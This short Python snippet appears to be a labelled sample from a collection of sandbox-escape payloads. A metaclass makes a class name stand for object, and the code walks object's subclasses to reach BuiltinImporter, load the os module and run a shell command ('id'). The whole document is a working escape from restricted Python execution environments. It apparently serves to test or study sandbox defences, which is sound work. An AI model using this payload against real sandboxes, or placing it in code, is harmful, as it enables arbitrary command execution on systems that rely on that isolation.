# HARM: object-graph escape to os via BuiltinImporter -> os.system | TRICK: metaclass __new__ returns object so the "own class" name is bound to object
class Meta(type):
    def __new__(mcs, name, bases, ns):
        return object


class Base(metaclass=Meta):
    pass


for c in Base.__subclasses__():
    if c.__name__ == "BuiltinImporter":
        c.load_module("os").system("id")
